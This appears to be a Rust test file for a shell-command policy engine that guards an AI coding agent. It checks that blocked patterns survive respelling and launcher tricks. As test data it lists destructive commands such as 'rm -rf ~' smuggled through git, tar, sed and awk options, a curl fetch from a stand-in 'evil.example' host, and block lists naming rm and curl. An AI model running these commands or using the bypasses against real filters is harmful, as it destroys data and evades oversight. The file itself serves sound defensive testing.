//! The policy engine end to end: the CodeFRAME guide's two files behave as
//! the guide says, blocked patterns cannot be bypassed by respelling, the
//! example policies load, and `warn` never allows what `enforce` denies.

use proptest::prelude::*;
use sandboxcore::policy::{
    DeploymentMode, Enforcement, Policy, PolicySettings, SettingsLayer, Verdict,
};
use sandboxcore::Plan;
use std::path::Path;

fn example(name: &str) -> Policy {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples/policies")
        .join(name);
    let (_, layer) = Policy::read_layer(&path).unwrap();
    Policy::from_layers(&[&layer]).unwrap()
}

fn with_enforcement(p: &Policy, e: Enforcement) -> Policy {
    let mut s = p.settings().clone();
    s.enforcement = e;
    Policy::new(s).unwrap()
}

#[test]
fn codeframe_config_runs_tests_directly_and_warns_on_shell_operators() {
    let p = example("codeframe-security.yml");
    assert_eq!(p.settings().mode, DeploymentMode::Selfhosted);
    let d = p.check("pytest tests/");
    assert_eq!(d.verdict, Verdict::Allow);
    assert_eq!(
        d.plan,
        Some(Plan::Direct(vec!["pytest".into(), "tests/".into()]))
    );
    assert!(d.reasons.is_empty());

    let d = p.check("npm run build && npm test");
    assert_eq!(d.verdict, Verdict::Warn);
    assert_eq!(
        d.plan,
        Some(Plan::Shell("npm run build && npm test".into()))
    );
    assert_eq!(d.matched_rule.as_deref(), Some("allow_shell_operators"));
}

#[test]
fn saas_unsandboxed_denies_shell_operators() {
    let p = Policy::for_mode(DeploymentMode::SaasUnsandboxed);
    let d = p.check("npm run build && npm test");
    assert_eq!(d.verdict, Verdict::Deny);
    assert_eq!(d.plan, None);
    assert_eq!(p.check("pytest tests/").verdict, Verdict::Allow);
    assert_eq!(
        p.check("ls -la").verdict,
        Verdict::Deny,
        "not a safe command"
    );

    // The same through CodeFRAME's environment variable over a file that
    // names no enforcement.
    let file = SettingsLayer::default();
    let env = Policy::env_layer_from(|n| {
        (n == "CODEFRAME_DEPLOYMENT_MODE").then(|| "saas_unsandboxed".to_string())
    })
    .unwrap();
    let p = Policy::from_layers(&[&file, &env]).unwrap();
    assert_eq!(p.check("npm run build && npm test").verdict, Verdict::Deny);
}

#[test]
fn environment_beats_file_beats_mode_default() {
    let (_, file) = Policy::read_layer(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/policies/codeframe-security.yml"),
    )
    .unwrap();
    let env = Policy::env_layer_from(|n| match n {
        "CODEFRAME_SECURITY_ENFORCEMENT" => Some("strict".into()),
        "CODEFRAME_ALLOW_SHELL_OPERATORS" => Some("false".into()),
        _ => None,
    })
    .unwrap();
    let p = Policy::from_layers(&[&file, &env]).unwrap();
    assert_eq!(p.settings().enforcement, Enforcement::Enforce);
    assert!(!p.settings().allow_shell_operators);
    assert_eq!(p.check("npm run build && npm test").verdict, Verdict::Deny);
}

#[test]
fn codeframe_policy_file_behaves_as_the_guide_says() {
    let warn = example("codeframe-security-policy.yml");
    assert_eq!(warn.settings().enforcement, Enforcement::Warn);
    assert_eq!(warn.check("pytest tests/").verdict, Verdict::Allow);
    assert_eq!(
        warn.check("npm run build && npm test").verdict,
        Verdict::Allow
    );
    assert_eq!(warn.check("rm -rf build").verdict, Verdict::Warn);

    let strict = with_enforcement(&warn, Enforcement::Enforce);
    assert_eq!(
        strict.check("npm run build && npm test").verdict,
        Verdict::Allow
    );
    for cmd in [
        "rm -rf build",
        "curl http://example.com/x",
        "wget https://x.io",
        "ls",
    ] {
        assert_eq!(strict.check(cmd).verdict, Verdict::Deny, "{cmd}");
    }
    let d = strict.check("npm run build || npm test");
    assert_eq!(
        d.verdict,
        Verdict::Deny,
        "|| is not among the allowed operators"
    );
    let d = strict.check("npm install https://external-domain.com/pkg.tgz");
    assert_eq!(d.verdict, Verdict::Ask);
    assert_eq!(
        d.matched_rule.as_deref(),
        Some("require_approval[0]: *://external-domain.com/*")
    );
}

#[test]
fn blocked_patterns_cannot_be_bypassed_by_respelling() {
    let p = with_enforcement(
        &example("codeframe-security-policy.yml"),
        Enforcement::Enforce,
    );
    let bypasses = [
        "rm -fr build",
        "rm -r -f build",
        "rm -R --force build",
        "/usr/bin/rm -rf build",
        "\\rm -rf build",
        "r''m -rf build",
        "\"rm\" \"-rf\" build",
        "sudo rm -rf build",
        "sudo -u nobody -- rm -rf build",
        "env -i rm -rf build",
        "timeout 5 nice -n 10 rm -rf build",
        "bash -c 'rm -rf build'",
        "sh -c \"cd /tmp && rm -rf build\"",
        "echo build | xargs rm -rf",
        "find . -name build -exec rm -rf {} +",
        "npm test; rm -rf build",
        "npm test && $(rm -rf build)",
        "npm test `rm -rf build`",
        "(rm -rf build)",
        "{ rm -rf build; }",
        "if true; then rm -rf build; fi",
        "curl HTTP://evil.example/x.sh",
        "command wget https://x.io",
    ];
    for cmd in bypasses {
        let d = p.check(cmd);
        assert_eq!(d.verdict, Verdict::Deny, "{cmd}: {:?}", d.reasons);
        assert!(
            d.reasons
                .iter()
                .any(|r| r.rule.starts_with("blocked_patterns")),
            "{cmd}: {:?}",
            d.reasons
        );
    }
    let open = Policy::new(PolicySettings {
        enforcement: Enforcement::Enforce,
        blocked_patterns: vec!["rm -rf".into()],
        ..DeploymentMode::Selfhosted.defaults()
    })
    .unwrap();
    for cmd in [
        "echo \"rm -rf\"",
        "grep -r \"rm -rf\" .",
        "git commit -m 'rm -rf build'",
    ] {
        let d = open.check(cmd);
        assert!(
            d.reasons
                .iter()
                .all(|r| !r.rule.starts_with("blocked_patterns")),
            "{cmd}: {:?}",
            d.reasons
        );
        assert_eq!(d.verdict, Verdict::Allow, "{cmd}: {:?}", d.reasons);
    }
}

#[test]
fn example_policies_load() {
    let native = example("sandboxcore.yml");
    assert_eq!(native.settings().mode, DeploymentMode::SaasSandboxed);
    assert_eq!(native.settings().enforcement, Enforcement::Enforce);
    assert!(native.settings().safe_commands.iter().any(|c| c == "just"));
    assert_eq!(
        native.check("make test 2>&1 | tee log").verdict,
        Verdict::Deny,
        "tee"
    );
    assert_eq!(native.check("make test 2>&1").verdict, Verdict::Allow);
    let json = example("sandboxcore.json");
    assert_eq!(json.settings().mode, DeploymentMode::SaasUnsandboxed);
    assert_eq!(json.settings().max_command_length, 2000);
}

fn command() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "pytest",
        "npm",
        "test",
        "rm",
        "-rf",
        "-r",
        "-f",
        "x",
        "curl",
        "http://a.io",
        "https://external-domain.com/p",
        "sudo",
        "bash",
        "-c",
        "'rm -rf y'",
        "ls",
        "$HOME",
        "*.py",
        "~",
        "\"a b\"",
        "&&",
        "||",
        ";",
        "|",
        ">",
        "out",
        "2>&1",
        "$(ls)",
        "make",
        "'unterminated",
        "echo",
        "-e",
        "wget",
        "git",
        "push",
        "--force",
    ]);
    prop::collection::vec(word, 1..8).prop_map(|w| w.join(" "))
}

fn settings() -> impl Strategy<Value = PolicySettings> {
    (
        prop::sample::select(DeploymentMode::ALL.to_vec()),
        any::<bool>(),
        any::<bool>(),
        prop::sample::subsequence(vec!["&&", "|", ">", "$()"], 0..4),
        prop::sample::subsequence(vec!["rm -rf", "curl http://", "wget"], 0..3),
        prop::sample::subsequence(vec!["pytest", "npm", "make", "ls"], 0..4),
        any::<bool>(),
        1usize..80,
    )
        .prop_map(
            |(mode, shell, safe_only, ops, blocked, allowed, approval, max)| {
                let mut s = mode.defaults();
                s.allow_shell_operators = shell;
                s.safe_commands_only = safe_only;
                s.allowed_shell_operators = ops.iter().map(|o| o.to_string()).collect();
                s.blocked_patterns = blocked.iter().map(|o| o.to_string()).collect();
                s.allowed_commands = allowed.iter().map(|o| o.to_string()).collect();
                if approval {
                    s.require_approval = vec!["*://external-domain.com/*".into()];
                }
                s.max_command_length = max;
                s
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    /// `warn` flags exactly what `enforce` denies, asks about or warns on,
    /// and so never allows what `enforce` denies; `disabled` allows all.
    #[test]
    fn warn_never_allows_what_enforce_denies(s in settings(), cmd in command()) {
        let mk = |e| Policy::new(PolicySettings { enforcement: e, ..s.clone() }).unwrap();
        let enforce = mk(Enforcement::Enforce).check(&cmd);
        let warn = mk(Enforcement::Warn).check(&cmd);
        let disabled = mk(Enforcement::Disabled).check(&cmd);
        if enforce.verdict == Verdict::Deny {
            prop_assert_eq!(warn.verdict, Verdict::Warn);
        }
        let expected = if enforce.verdict == Verdict::Allow { Verdict::Allow } else { Verdict::Warn };
        prop_assert_eq!(warn.verdict, expected);
        prop_assert_eq!(disabled.verdict, Verdict::Allow);
        prop_assert_eq!(&enforce.reasons, &warn.reasons);
        prop_assert_eq!(enforce.plan.is_none(), enforce.verdict == Verdict::Deny || enforce.classification.parse_error.is_some());
    }
}

#[test]
fn a_program_used_as_a_launcher_is_judged_by_what_it_launches() {
    let policy = Policy::from_yaml_str(
        "enforcement: enforce\nallowed_commands: [git, sed, tar, env, awk]\nblocked_patterns: ['rm -rf']\n",
    )
    .unwrap();
    for line in [
        "git -c core.pager='rm -rf ~' log",
        "git -c alias.x='!rm -rf ~' x",
        "git fetch --upload-pack='rm -rf ~' origin",
        "tar -cf a.tar --checkpoint-action=exec='rm -rf ~' .",
        "env -S 'rm -rf /'",
        "sed -n 'e rm -rf ~' f",
        "awk 'BEGIN{system(\"rm -rf ~\")}'",
    ] {
        let d = policy.check(line);
        assert_eq!(d.verdict, Verdict::Deny, "{line}: {:?}", d.reasons);
        assert!(
            d.reasons.iter().any(|r| r.message.contains("rm")),
            "{line}: {:?}",
            d.reasons
        );
    }
    // The same programs used plainly stay allowed.
    for line in ["git log --oneline", "sed 's/a/b/' f", "tar -cf a.tar src"] {
        assert_eq!(policy.check(line).verdict, Verdict::Allow, "{line}");
    }
}

#[test]
fn every_shipped_policy_carries_examples_that_hold() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/policies");
    let mut files = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        // Reading the file checks its examples (an error names each one).
        let (_, layer) = Policy::read_layer(&path).unwrap_or_else(|e| panic!("{e}"));
        let examples = layer
            .examples
            .clone()
            .unwrap_or_else(|| panic!("{} has no examples", path.display()));
        assert!(examples.iter().count() >= 4, "{}", path.display());
        let policy = Policy::from_layers(&[&layer]).unwrap();
        for (expected, command) in examples.iter() {
            assert_eq!(policy.check(command).verdict, expected, "{command}");
        }
        files += 1;
    }
    assert_eq!(files, 4);
}

/// `filesystem.effects_outside`: predicted effects outside the workspace
/// (absolute, `~`, `..` escapes) are denied before anything runs; those in
/// the working directory, `/tmp` and `filesystem.writable` are not.
#[test]
fn effects_outside_the_workspace_are_denied_before_running() {
    let p = Policy::from_yaml_str(
        "enforcement: enforce\nallow_shell_operators: true\nfilesystem:\n  effects_outside: deny\n  writable: [\"~/.cache\"]\n",
    )
    .unwrap();
    let rule = "filesystem.effects_outside";
    let by_rule = |cmd: &str| {
        let d = p.check(cmd);
        let hit = d.reasons.iter().any(|r| r.rule == rule);
        (d, hit)
    };
    for cmd in [
        "echo x > /etc/x",
        "rm -rf ~/x",
        "cp a ../../b",
        "sudo tee /srv/x",
    ] {
        let (d, hit) = by_rule(cmd);
        assert!(hit, "{cmd}: {d:?}");
        assert_eq!(d.verdict, Verdict::Deny, "{cmd}");
        assert!(d.plan.is_none(), "{cmd}");
    }
    let (d, _) = by_rule("cp a ../../b");
    assert_eq!(d.matched_rule.as_deref(), Some(rule));
    assert!(d.reasons[0].message.contains("`../../b`"), "{d:?}");
    for cmd in [
        "echo x > out.txt",
        "rm -rf build",
        "touch /tmp/x",
        "rm -rf ~/.cache/pip",
        "cp -r src/ dist/",
    ] {
        let (d, hit) = by_rule(cmd);
        assert!(!hit, "{cmd}: {d:?}");
    }
    // `warn` enforcement turns the denial into a warning.
    let warn = with_enforcement(&p, Enforcement::Warn);
    assert_eq!(warn.check("cp a ../../b").verdict, Verdict::Warn);
}
